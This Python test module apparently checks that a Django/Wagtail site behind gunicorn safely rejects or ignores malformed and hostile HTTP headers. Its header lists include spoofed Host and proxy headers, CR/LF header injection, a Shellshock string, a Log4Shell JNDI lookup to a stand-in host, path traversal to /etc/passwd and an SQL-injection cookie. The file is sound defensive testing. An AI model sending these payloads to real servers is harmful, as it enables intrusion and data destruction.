"""Headers that lie, break lines, or are too many."""

from collections.abc import Iterator

from ..row import CANARY, FOREIGN, SCRIPT, Row
from .pages import FINDER, HOME, PAGES

HOSTS = (
    FOREIGN,
    f"127.0.0.1.{FOREIGN}",
    f"127.0.0.1@{FOREIGN}",
    f"{FOREIGN}:80",
    f"127.0.0.1:{CANARY}",
    SCRIPT,
    "",
    "..",
    "localhost/../x",
    "127.0.0.1, 127.0.0.2",
    "[::1",
    "[::ffff:7f00:1]",
    "a" * 300,
    "2130706433",
    "127.1",
    "xn--80ak6aa92e.example",
    f"localhost#{FOREIGN}",
    f"localhost?{FOREIGN}",
    "localhost\\x",
)
"""Names that look like ours."""
PROXIES = (
    ("X-Forwarded-Host", FOREIGN),
    ("X-Forwarded-Server", FOREIGN),
    ("X-Host", FOREIGN),
    ("X-HTTP-Host-Override", FOREIGN),
    ("Forwarded", f"for=1.2.3.4;host={FOREIGN};proto=https"),
    ("X-Forwarded-Proto", f"{CANARY}"),
    ("X-Forwarded-Proto", "https, http"),
    ("X-Forwarded-Ssl", "on"),
    ("X-Forwarded-Protocol", "ssl"),
    ("X-Forwarded-Port", "1"),
    ("X-Forwarded-Scheme", CANARY),
    ("X-Forwarded-Prefix", f"/{CANARY}"),
    ("X-Forwarded-Path", "/admin/"),
    ("X-Original-URL", "/admin/"),
    ("X-Rewrite-URL", "/admin/"),
    ("X-Original-Host", FOREIGN),
    ("SCRIPT_NAME", f"/{CANARY}"),
    ("SCRIPT-NAME", f"/{CANARY}"),
    ("PATH_INFO", "/admin/"),
    ("X-HTTP-Method-Override", "DELETE"),
    ("X-Method-Override", "POST"),
    ("X-Forwarded-For", "127.0.0.1"),
    ("X-Forwarded-For", f"{SCRIPT}, {CANARY}"),
    ("X-Forwarded-For", "999.999.999.999"),
    ("X-Forwarded-For", ", ".join(["1.2.3.4"] * 200)),
    ("X-Forwarded-For", "::1%25eth0"),
    ("X-Real-IP", "127.0.0.1"),
    ("True-Client-IP", "127.0.0.1"),
    ("CF-Connecting-IP", "127.0.0.1"),
    ("Remote-User", "admin"),
    ("X-Remote-User", "admin"),
    ("Proxy", f"http://{FOREIGN}"),
)
"""What proxies say, and who is no proxy."""
READ: tuple[tuple[str, str | bytes], ...] = (
    ("Accept-Language", "xx"),
    ("Accept-Language", "fr;q=nan,es;q=1e400"),
    ("Accept-Language", "a-" * 2_000),
    ("Accept-Language", ",".join(f"a{n};q=0.{n}" for n in range(500))),
    ("Accept-Language", "../../../etc/passwd"),
    ("Accept-Language", SCRIPT),
    ("Accept-Language", b"\xff\xfe"),
    ("Accept", "application/json"),
    ("Accept", "*/*;q=nope"),
    ("Accept-Encoding", "gzip;q=nope, br, *;q=0"),
    ("Accept-Charset", "utf-7"),
    ("User-Agent", SCRIPT),
    ("User-Agent", b"\xff\x80" * 500),
    ("User-Agent", "() { :; }; echo hostile9"),
    ("User-Agent", "${jndi:ldap://hostile9.example/a}"),
    ("Referer", f"https://{FOREIGN}/"),
    ("Referer", "javascript:hostile9()"),
    ("Referer", b"http://[\xff"),
    ("Origin", f"https://{FOREIGN}"),
    ("Origin", "null"),
    ("Cookie", f"sessionid={CANARY}; csrftoken={CANARY}; __Host-sessionid={CANARY}"),
    ("Cookie", "sessionid='; DROP TABLE django_session; --"),
    ("Cookie", "sessionid=" + "a" * 5_000),
    ("Cookie", "=;;;==;"),
    ("Cookie", b"sessionid=\xff\xfe"),
    ("Cookie", "messages=hostile9$[[]]; django_language=xx; wagtail=1"),
    ("Cookie", "; ".join(f"a{n}=b" for n in range(500))),
    ("If-None-Match", "*"),
    ("If-None-Match", '"' + "a" * 5_000),
    ("If-Modified-Since", "yesterday"),
    ("If-Modified-Since", "Thu, 99 Foo 99999 99:99:99 GMT"),
    ("If-Match", '"x"'),
    ("If-Unmodified-Since", "Thu, 01 Jan 1970 00:00:00 GMT"),
    ("Range", "bytes=0-1,2-3,4-5"),
    ("Range", "bytes=99999999999999999999-"),
    ("Range", "lines=-1"),
    ("Authorization", "Basic hostile9"),
    ("Authorization", "Bearer " + "a" * 3_000),
    ("Upgrade", "h2c"),
    ("X-Requested-With", "XMLHttpRequest"),
    ("Purpose", "prefetch"),
    ("Content-Type", "application/x-hostile9"),
    ("X-CSRFToken", "a" * 5_000),
)
"""What the site, Django or the server reads, or might."""
BROKEN: tuple[tuple[tuple[str, str | bytes], str], ...] = (
    (("X-A", b"1\nX-Hostile9: 1"), "a header behind half a line's end"),
    (("X-A", b"1\rX-Hostile9: 1"), "a header behind the other half of a line's end"),
    (("X-A\r\nX-Hostile9", "1"), "a header without its colon"),
    (("", "1"), "a header without a name"),
    (("X A", "1"), "a header's name with a space"),
    (("X-\xff", "1"), "a header's name in bytes"),
    (("X-A", b"a\x00b"), "a null byte in a header"),
    (("Cookie", "a=\x01"), "a control character in a cookie"),
    (("Expect", "200-perhaps"), "something else to be expected"),
)
"""What gunicorn refuses by itself."""


def rows() -> Iterator[Row]:
    for host in HOSTS:
        for page in (HOME, "/", "/admin/login/"):
            yield Row(f"Host: {host[:40]}", page, 400, headers=[("Host", host)])
    yield Row("two hosts", HOME, 400, headers=[("Host", "localhost"), ("host", FOREIGN)], by_server=True)
    yield Row("a whole address of another host", f"http://{FOREIGN}/en/", (200, 400, 404), then=HOME)
    yield Row("a whole address and another host", f"http://127.0.0.1{HOME}", 400, headers=[("Host", FOREIGN)])
    for name, value in PROXIES:
        yield Row(f"{name}: {value[:40]}", FINDER, 200, headers=[(name, value)], then=FINDER)
        yield Row(f"{name} at the root", "/", 302, headers=[(name, value)])
    for name, sent in READ:
        status = {"If-Match": (200, 412), "If-None-Match": (200, 304)}.get(name, 200)
        yield Row(f"{name}: {str(sent)[:40]}", FINDER, status, headers=[(name, sent)])
    for header, why in BROKEN:
        yield Row(why, HOME, (400, 417), headers=[header], by_server=True)
    yield Row("a name of ours with a dot behind it", HOME, 200, headers=[("Host", "localhost.")])
    yield Row("95 headers", HOME, 200, headers=[(f"X-{number}", "1") for number in range(95)])
    yield Row("200 headers", HOME, (400, 431), headers=[(f"X-{n}", "1") for n in range(200)], by_server=True)
    yield Row("a header of 20 KB", HOME, (400, 431), headers=[("X-A", "a" * 20_000)], by_server=True)
    for page in PAGES:
        yield Row(
            "another host by X-Forwarded-Host", page, 200, headers=[("X-Forwarded-Host", FOREIGN)], then=page
        )
